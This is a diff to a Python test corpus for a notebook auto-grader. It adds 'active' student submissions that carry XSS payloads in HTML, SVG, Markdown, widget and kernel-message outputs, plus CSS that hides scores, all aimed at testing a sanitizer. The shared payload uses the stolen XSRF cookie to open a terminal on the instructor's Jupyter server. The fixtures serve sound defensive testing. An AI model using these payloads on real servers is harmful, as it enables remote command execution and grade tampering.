@@ -3,7 +3,10 @@
 Each entry edits the master solutions (as a student would fill the release): `edits`
 replaces text in an answer cell (every `old` must occur), `cells` replaces a whole
 answer cell, `before` puts code at the top of an answer cell. `expect` gives the points
-of the exercises that do not earn full marks (structure 2 + values 3 or 4).
+of the exercises that do not earn full marks (structure 2 + values 3 or 4). The
+`active` entries add, to right answers, content that would run in the instructor's or the
+student's browser if a page rendered it as it is (sanitize.py); each payload calls
+`PAYLOAD` (the browser test's marker, then a terminal on the instructor's server).
 """
 
 from typing import NamedTuple
@@ -13,11 +16,14 @@ class Entry(NamedTuple):
     """One submission of the corpus."""
 
     name: str
-    kind: str  # buggy, valid, cheat or fault
+    kind: str  # buggy, valid, cheat, fault or active
     expect: dict
     edits: dict = {}
     cells: dict = {}
     before: dict = {}
+    markdown: tuple = ()  # markdown cells of the student's own, added after the first
+    files: dict = {}  # {name: text} handed in beside the notebook
+    metadata: dict = {}  # notebook metadata the student's editor left
 
 
 CF, FW, CB, BW = "rnn_cell_forward", "rnn_forward", "rnn_cell_backward", "rnn_backward"
@@ -283,4 +289,52 @@ SANDBOX = [
     Entry("looks_for_other_processes", "cheat", {}, before={CF: _PROCESSES}),
 ]
 
-CORPUS = BUGGY + VALID + CHEAT + FORGERY + FAULT + SANDBOX
+# What each active payload runs where a page lets it: a marker the browser test reads,
+# then what an attacker wants, a shell on the instructor's server through its REST API.
+PAYLOAD = ("(top.PWNED=top.PWNED||[]).push(1);fetch('/api/terminals',{method:'POST',"
+           "credentials:'same-origin',headers:{'X-XSRFToken':(document.cookie.match("
+           "/_xsrf=([^;]*)/)||[])[1]||''}})")
+_DISPLAY = "from IPython.display import HTML, SVG, Javascript, Markdown, display\n"
+_PNG = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU"
+        "5ErkJggg==")
+_SVG = ('<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20" onload="{js}">'
+        '<script>{js}</script><rect width="20" height="20" fill="red"/></svg>')
+_FORGED_MESSAGES = f"""_k = get_ipython().kernel
+_bad = {'<img src=x onerror="' + PAYLOAD + '">'!r}
+for _kind, _content in (
+        ("display_data", {{"data": {{"text/html": {{_bad: 1}}, "text/plain": "x"}},
+                          "metadata": {{}}}}),
+        ("execute_result", {{"execution_count": _bad, "data": {{"text/plain": "y"}},
+                            "metadata": {{}}}})):
+    _k.session.send(_k.iopub_socket, _kind, _content, parent=_k.get_parent("shell"),
+                    ident=_k._topic(_kind))
+"""
+
+
+def _show(kind, value, **options):
+    """An answer cell's first lines: display `value` as IPython's `kind` (HTML, ...), or
+    as a raw mime bundle (kind "")."""
+    shown = f"{kind}({value!r})" if kind else repr(value)
+    extra = "".join(f", {k}={v!r}" for k, v in options.items())
+    return _DISPLAY + f"display({shown}{extra})\n"
+
+
+_ON = f'onerror="{PAYLOAD}"'
+ACTIVE = [
+    Entry("script_in_html_output", "active", {}, before={CF: _show("HTML", f"<b>my notes</b><script>{PAYLOAD}</script>")}),
+    Entry("handler_in_html_output", "active", {}, before={FW: _show("HTML", f'<img src=x {_ON}><p onmouseover="{PAYLOAD}">hover</p>')}),
+    Entry("javascript_output", "active", {}, before={CB: _show("Javascript", PAYLOAD)}),
+    Entry("svg_output_with_script", "active", {}, before={BW: _show("", {"image/svg+xml": _SVG.format(js=PAYLOAD)}, raw=True)}),
+    Entry("markdown_output", "active", {}, before={CF: _show("Markdown", f"[see this](javascript:{PAYLOAD}) <img src=x {_ON}>")}),
+    Entry("iframe_srcdoc", "active", {}, before={CF: _show("HTML", f'<iframe srcdoc="<script>{PAYLOAD}</script>"></iframe><object data="data:text/html,<script>{PAYLOAD}</script>"></object><embed src="x.svg">')}),
+    Entry("mutation_xss", "active", {}, before={CF: _show("HTML", f'<noscript><p title="</noscript><img src=x onerror={PAYLOAD}>"></noscript><svg><style><img src=x {_ON}></style></svg><math><mtext><table><mglyph><style><img src=x {_ON}>')}),
+    Entry("forged_kernel_messages", "active", {}, before={CF: _FORGED_MESSAGES}),
+    Entry("image_metadata_injection", "active", {}, before={CF: _show("", {"image/png": _PNG}, raw=True, metadata={"image/png": {"width": f"1 onerror={PAYLOAD}", "alt": "x"}, "text/html": {"isolated": True}})}),
+    Entry("raw_html_in_markdown_cell", "active", {}, markdown=(f'My derivation <img src=x {_ON}> <script>{PAYLOAD}</script>', f'<details open ontoggle="{PAYLOAD}"><summary>x</summary></details>\n\nand <form action="/api/terminals" method="post"><button>go</button></form>')),
+    Entry("javascript_links", "active", {}, markdown=(f'[my derivation](javascript:{PAYLOAD}) and <a href="javascript:{PAYLOAD}">this</a>, [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',)),
+    Entry("css_hides_scores", "active", {}, markdown=('<style>.score, .panel-heading, input { display: none !important }</style><div style="position:fixed;top:0;left:0;width:100%;height:100%;background:white;z-index:9999">Nothing to see</div><base href="http://127.0.0.1:9/"><meta http-equiv="refresh" content="0;url=javascript:alert(1)">',)),
+    Entry("widget_state", "active", {}, before={CF: _show("", {"application/vnd.jupyter.widget-view+json": {"model_id": "m1", "version_major": 2, "version_minor": 0}, "text/plain": "widget"}, raw=True)}, metadata={"widgets": {"application/vnd.jupyter.widget-state+json": {"version_major": 2, "version_minor": 0, "state": {"m1": {"model_module": "evil-widgets", "model_module_version": "*", "model_name": "EvilModel", "state": {}}}}}}),
+    Entry("files_beside_the_notebook", "active", {}, markdown=("Open [my derivation](derivation.html) or [the figure](figure.svg) or ![figure](figure.svg)",), files={"derivation.html": f"<h1>Derivation</h1><script>{PAYLOAD}</script>", "figure.svg": _SVG.format(js=PAYLOAD), "notes/page.xml": f'<html xmlns="http://www.w3.org/1999/xhtml"><script>{PAYLOAD}</script></html>', "rnn_utils.py": "print('not the course helper')\n"}),
+]
+
+CORPUS = BUGGY + VALID + CHEAT + FORGERY + FAULT + SANDBOX + ACTIVE
